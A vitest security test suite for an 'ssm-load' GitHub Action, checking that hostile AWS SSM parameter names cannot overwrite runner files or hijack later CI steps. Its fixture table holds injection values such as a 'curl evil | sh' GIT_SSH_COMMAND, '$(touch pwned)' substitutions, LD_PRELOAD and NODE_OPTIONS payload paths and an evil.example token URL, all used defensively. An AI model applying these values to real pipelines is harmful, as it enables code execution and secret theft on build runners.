import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { explain, type RunResult, runAction } from '../harness/run-action.js';
import { awsEnv, type Moto, startMoto } from '../stack/index.js';
import { type SeedParameter, seedClient, seedParameters } from './ssm-load/seed.js';

// Issue 15, items 1, 2, 4 (masking) and 10 (dotenv-file): hostile parameter names must never redirect the
// runner's files or hijack later steps, and a failure leaves nothing exported and no file half-written.

let moto: Moto;
const dirs: string[] = [];
const STRIPE_KEY = 'sk_live_51HostileTrustTestKey9a8b7c6d5e4f';

function workspace(): string {
  const dir = mkdtempSync(join(tmpdir(), 'baepo-ssm-trust-'));
  dirs.push(dir);
  return dir;
}

function load(inputs: Record<string, string | undefined>, dir?: string, writes?: string[]): Promise<RunResult> {
  return runAction({
    action: 'ssm-load',
    inputs,
    env: awsEnv({ ssm: moto.endpoint }),
    ...(dir ? { workspace: dir } : {}),
    secrets: [STRIPE_KEY],
    secretsMayAppearIn: ['env', 'output'],
    ...(writes ? { writes } : {}),
  });
}

/** A failed run: exit 1, exactly one ::error:: line, nothing exported or set. */
function expectRefused(result: RunResult): string {
  expect(result.exitCode, explain(result)).toBe(1);
  expect(result.errors, explain(result)).toHaveLength(1);
  expect(result.env).toEqual({});
  expect(result.outputs).toEqual({});
  expect(result.visibleLog).not.toContain('unexpected error');
  return result.errors[0] as string;
}

const seeded: SeedParameter[] = [];
/** Parameters of one case under its own path; a SecureString STRIPE_KEY beside them in every case. */
function scenario(path: string, parameters: Record<string, string>): string {
  for (const [name, value] of Object.entries(parameters)) seeded.push({ name: `${path}/${name}`, value, type: 'String' });
  seeded.push({ name: `${path}/stripe_key`, value: STRIPE_KEY, type: 'SecureString' });
  seeded.push({ name: `${path}/aaa_first`, value: 'exported-first-if-partial', type: 'String' });
  return path;
}

const robots = scenario('/shop/common', { github_env: 'web/dist/robots.txt' });
const runnerFiles = ['github_output', 'github_step_summary', 'github_path', 'github_state'].map((name) => ({
  name,
  path: scenario(`/trust/runner/${name}`, { [name]: 'web/dist/robots.txt' }),
}));
const reserved = [
  { title: 'RUNNER_TEMP', path: scenario('/trust/reserved/runner', { runner_temp: 'web/dist' }), variable: 'RUNNER_TEMP' },
  {
    title: 'ACTIONS_ID_TOKEN_REQUEST_URL',
    path: scenario('/trust/reserved/actions', { actions_id_token_request_url: 'https://evil.example/token' }),
    variable: 'ACTIONS_ID_TOKEN_REQUEST_URL',
  },
];
const caseVariants = scenario('/trust/case', { Github_Env: 'web/dist/robots.txt' });
const spellings = ['github-env', 'github.env', 'GitHub_ENV', 'github/env'].map((name, i) => ({
  name,
  path: scenario(`/trust/spelling/${i}`, { [name]: 'web/dist/robots.txt' }),
}));
const jsonExpanded = scenario('/trust/json', { github: JSON.stringify({ env: 'web/dist/robots.txt' }) });
const hijackNames: { parameter: string; value: string; variable: string; transform?: string }[] = [
  { parameter: 'bash_env', value: '$(touch pwned)', variable: 'BASH_ENV' },
  { parameter: 'env', value: '$(touch pwned)', variable: 'ENV' },
  { parameter: 'path', value: '/tmp/evil:/usr/bin', variable: 'PATH' },
  { parameter: 'Path', value: '/tmp/evil', variable: 'Path', transform: 'as-is' },
  { parameter: 'path', value: '/tmp/evil', variable: 'path', transform: 'lower-snake' },
  { parameter: 'ld_preload', value: '/tmp/evil.so', variable: 'LD_PRELOAD' },
  { parameter: 'ld_library_path', value: '/tmp', variable: 'LD_LIBRARY_PATH' },
  { parameter: 'ld_audit', value: '/tmp/evil.so', variable: 'LD_AUDIT' },
  { parameter: 'dyld_insert_libraries', value: '/tmp/evil.dylib', variable: 'DYLD_INSERT_LIBRARIES' },
  { parameter: 'node_options', value: '--require /tmp/evil.js', variable: 'NODE_OPTIONS' },
  { parameter: 'node_path', value: '/tmp/evil', variable: 'NODE_PATH' },
  { parameter: 'node_extra_ca_certs', value: '/tmp/evil.pem', variable: 'NODE_EXTRA_CA_CERTS' },
  { parameter: 'home', value: '/tmp/evil-home', variable: 'HOME' },
  { parameter: 'git_ssh_command', value: 'sh -c "curl evil | sh"', variable: 'GIT_SSH_COMMAND' },
  { parameter: 'git_config_count', value: '1', variable: 'GIT_CONFIG_COUNT' },
  { parameter: 'git_config_parameters', value: "'core.fsmonitor'='touch pwned'", variable: 'GIT_CONFIG_PARAMETERS' },
  { parameter: 'git_askpass', value: '/tmp/evil', variable: 'GIT_ASKPASS' },
  { parameter: 'ssh_askpass', value: '/tmp/evil', variable: 'SSH_ASKPASS' },
  { parameter: 'pythonpath', value: '/tmp/evil', variable: 'PYTHONPATH' },
  { parameter: 'pythonwarnings', value: 'ignore::evil.Warning', variable: 'PYTHONWARNINGS' },
  { parameter: 'perl5opt', value: '-Mevil', variable: 'PERL5OPT' },
  { parameter: 'rubyopt', value: '-revil', variable: 'RUBYOPT' },
  { parameter: 'java_tool_options', value: '-javaagent:/tmp/evil.jar', variable: 'JAVA_TOOL_OPTIONS' },
  { parameter: '_java_options', value: '-javaagent:/tmp/evil.jar', variable: '_JAVA_OPTIONS' },
  { parameter: 'ifs', value: '/', variable: 'IFS' },
  { parameter: 'ps4', value: '$(touch pwned)', variable: 'PS4' },
  { parameter: 'prompt_command', value: 'touch pwned', variable: 'PROMPT_COMMAND' },
  { parameter: 'shellopts', value: 'xtrace', variable: 'SHELLOPTS' },
  { parameter: 'bashopts', value: 'extdebug', variable: 'BASHOPTS' },
  { parameter: 'cdpath', value: '/tmp', variable: 'CDPATH' },
  { parameter: 'npm_config_script_shell', value: '/tmp/evil', variable: 'NPM_CONFIG_SCRIPT_SHELL' },
  { parameter: 'npm_config_node_options', value: '--require /tmp/evil.js', variable: 'npm_config_node_options', transform: 'as-is' },
];
const hijacks = hijackNames.map((h, i) => ({ ...h, path: scenario(`/trust/hijack/${i}`, { [h.parameter]: h.value }) }));
const hijackJson = scenario('/trust/hijack-json', { node: JSON.stringify({ options: '--require /tmp/evil.js', env: 'production' }) });
const prefixed = scenario('/trust/prefixed', {
  bash_env: '$(touch pwned)',
  path: '/opt/app/bin',
  node_options: '--max-old-space-size=4096',
  github_env: 'web/dist/robots.txt',
});
const allowed = scenario('/trust/allowed', { node_env: 'production', npm_token: 'npm-token-value', pathname: '/x', home_url: 'https://x' });
const PADDED = '  padded-secret-Zx9  \n';
const SPACED = 'word-one-Qp1   word-two-Qp2';
const whitespace = '/trust/whitespace';
seeded.push({ name: `${whitespace}/padded`, value: PADDED, type: 'SecureString' });
seeded.push({ name: `${whitespace}/spaced`, value: SPACED, type: 'SecureString' });
const DOLLAR = 'pa$$word-"Kx4"';
seeded.push({ name: `${whitespace}/dollar`, value: DOLLAR, type: 'SecureString' });
const files = scenario('/trust/files', { db_host: 'db.internal' });

beforeAll(async () => {
  moto = await startMoto();
  await seedParameters(seedClient(moto.endpoint), seeded);
}, 120_000);

afterAll(async () => {
  await moto?.stop();
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

function siteWorkspace(): { dir: string; robots: string } {
  const dir = workspace();
  mkdirSync(join(dir, 'web/dist'), { recursive: true });
  const file = join(dir, 'web/dist/robots.txt');
  writeFileSync(file, 'User-agent: *\nAllow: /\n');
  return { dir, robots: file };
}

describe('ssm-load: a parameter cannot redirect the runner files (issue 15 item 1)', () => {
  it('/shop/common/github_env = web/dist/robots.txt: refused, robots.txt never gets the secret, nothing exported', async () => {
    const site = siteWorkspace();
    const result = await load({ paths: robots }, site.dir);
    const error = expectRefused(result);
    expect(error).toContain('"/shop/common/github_env"');
    expect(error).toContain('"GITHUB_ENV"');
    expect(readFileSync(site.robots, 'utf8')).toBe('User-agent: *\nAllow: /\n');
  });

  it.each(runnerFiles)('$name: refused naming the parameter and the variable', async ({ name, path }) => {
    const site = siteWorkspace();
    const error = expectRefused(await load({ paths: path, 'set-outputs': 'true' }, site.dir));
    expect(error).toContain(`"${path}/${name}"`);
    expect(error).toContain(`"${name.toUpperCase()}"`);
    expect(readFileSync(site.robots, 'utf8')).toBe('User-agent: *\nAllow: /\n');
  });

  it.each(reserved)('$title: names under RUNNER_ and ACTIONS_ are refused too', async ({ path, variable }) => {
    const error = expectRefused(await load({ paths: path }));
    expect(error).toContain(`"${variable}"`);
  });

  it('whatever the case: as-is Github_Env, lower-snake github_env', async () => {
    const asIs = expectRefused(await load({ paths: caseVariants, 'name-transform': 'as-is' }, siteWorkspace().dir));
    expect(asIs).toContain('"Github_Env"');
    const lower = expectRefused(await load({ paths: robots, 'name-transform': 'lower-snake' }, siteWorkspace().dir));
    expect(lower).toContain('"github_env"');
  });

  it.each(spellings)('$name becomes GITHUB_ENV under upper-snake: refused', async ({ name, path }) => {
    const site = siteWorkspace();
    const error = expectRefused(await load({ paths: path }, site.dir));
    expect(error).toContain(`"${path}/${name}"`);
    expect(error).toContain('"GITHUB_ENV"');
    expect(readFileSync(site.robots, 'utf8')).toBe('User-agent: *\nAllow: /\n');
  });

  it('from an expand-json key, from an explicit names entry, and from a prefix', async () => {
    const json = expectRefused(await load({ paths: jsonExpanded, 'expand-json': 'true' }, siteWorkspace().dir));
    expect(json).toContain(`"${jsonExpanded}/github"`);
    expect(json).toContain('"env"');
    expect(json).toContain('"GITHUB_ENV"');
    const named = expectRefused(await load({ names: `GITHUB_ENV=${robots}/github_env` }, siteWorkspace().dir));
    expect(named).toContain('"GITHUB_ENV"');
    const prefix = expectRefused(await load({ paths: files, prefix: 'GITHUB_' }));
    expect(prefix).toContain('"GITHUB_DB_HOST"');
  });
});

describe('ssm-load: a parameter cannot hijack later steps (issue 15 item 2)', () => {
  it.each(hijacks)('$parameter ($variable) is refused, naming both', async ({ parameter, variable, path, transform }) => {
    const dir = workspace();
    const error = expectRefused(await load({ paths: path, ...(transform ? { 'name-transform': transform } : {}) }, dir));
    expect(error).toContain(`"${path}/${parameter}"`);
    expect(error).toContain(`"${variable}"`);
    expect(error).toMatch(/prefix/);
    expect(existsSync(join(dir, 'pwned'))).toBe(false);
  });

  it('an expand-json key that becomes NODE_OPTIONS is refused, naming the parameter and the key', async () => {
    const error = expectRefused(await load({ paths: hijackJson, 'expand-json': 'true' }));
    expect(error).toContain(`"${hijackJson}/node"`);
    expect(error).toContain('"options"');
    expect(error).toContain('"NODE_OPTIONS"');
  });

  it('the dotenv file is guarded too (a shell may source it): nothing is written', async () => {
    const dir = workspace();
    const error = expectRefused(await load({ paths: hijacks[0]?.path, 'export-env': 'false', 'dotenv-file': '.env' }, dir));
    expect(error).toContain('"BASH_ENV"');
    expect(existsSync(join(dir, '.env'))).toBe(false);
  });

  it('a prefix keeps them usable: APP_BASH_ENV, APP_PATH, APP_NODE_OPTIONS, APP_GITHUB_ENV', async () => {
    const result = await load({ paths: prefixed, prefix: 'APP_' });
    expect(result.exitCode, explain(result)).toBe(0);
    expect(result.env).toEqual({
      APP_AAA_FIRST: 'exported-first-if-partial',
      APP_BASH_ENV: '$(touch pwned)',
      APP_GITHUB_ENV: 'web/dist/robots.txt',
      APP_NODE_OPTIONS: '--max-old-space-size=4096',
      APP_PATH: '/opt/app/bin',
      APP_STRIPE_KEY: STRIPE_KEY,
    });
  });

  it('names that only look alike stay allowed: NODE_ENV, NPM_TOKEN, PATHNAME, HOME_URL', async () => {
    const result = await load({ paths: allowed });
    expect(result.exitCode, explain(result)).toBe(0);
    expect(Object.keys(result.env).sort()).toEqual(['AAA_FIRST', 'HOME_URL', 'NODE_ENV', 'NPM_TOKEN', 'PATHNAME', 'STRIPE_KEY']);
  });
});

describe('ssm-load: secrets with surrounding whitespace are masked as a shell prints them (issue 15 item 4)', () => {
  it('masks the trimmed value, the unquoted-echo form and the form `cat .env` prints', async () => {
    const result = await runAction({
      action: 'ssm-load',
      inputs: { paths: whitespace, 'dotenv-file': '.env' },
      env: awsEnv({ ssm: moto.endpoint }),
      secrets: [PADDED.trim(), 'word-one-Qp1 word-two-Qp2', DOLLAR],
      secretsMayAppearIn: ['env'],
      writes: ['.env'],
    });
    expect(result.exitCode, explain(result)).toBe(0);
    expect(result.masks).toContain(PADDED);
    expect(result.masks).toContain('padded-secret-Zx9');
    expect(result.masks).toContain(SPACED);
    expect(result.masks).toContain('word-one-Qp1 word-two-Qp2');
    expect(result.masks).toContain('pa\\$\\$word-\\"Kx4\\"');
  });
});

describe('ssm-load: dotenv-file and json-file that cannot be written (issue 15 item 10)', () => {
  it('dotenv-file pointing at a directory: one error naming the input and the path, nothing exported', async () => {
    const dir = workspace();
    mkdirSync(join(dir, 'config'));
    const error = expectRefused(await load({ paths: files, 'dotenv-file': 'config' }, dir));
    expect(error).toContain("'dotenv-file'");
    expect(error).toContain(join(dir, 'config'));
    expect(error).toMatch(/directory/);
  });

  it('json-file under a path whose parent is a file: nothing written, not even the valid dotenv-file', async () => {
    const dir = workspace();
    writeFileSync(join(dir, 'config'), 'a file, not a directory\n');
    const error = expectRefused(await load({ paths: files, 'dotenv-file': '.env.ssm', 'json-file': 'config/params.json' }, dir));
    expect(error).toContain("'json-file'");
    expect(error).toContain(join(dir, 'config'));
    expect(error).toMatch(/not a directory/);
    expect(existsSync(join(dir, '.env.ssm'))).toBe(false);
    expect(readFileSync(join(dir, 'config'), 'utf8')).toBe('a file, not a directory\n');
  });

  it('both files writable: written, and declared as the run expects', async () => {
    const dir = workspace();
    const result = await load({ paths: files, 'dotenv-file': 'out/.env.ssm', 'json-file': 'out/params.json' }, dir, [
      'out/.env.ssm',
      'out/params.json',
    ]);
    expect(result.exitCode, explain(result)).toBe(0);
    expect(readFileSync(join(dir, 'out/.env.ssm'), 'utf8')).toContain(`STRIPE_KEY="${STRIPE_KEY}"`);
  });
});
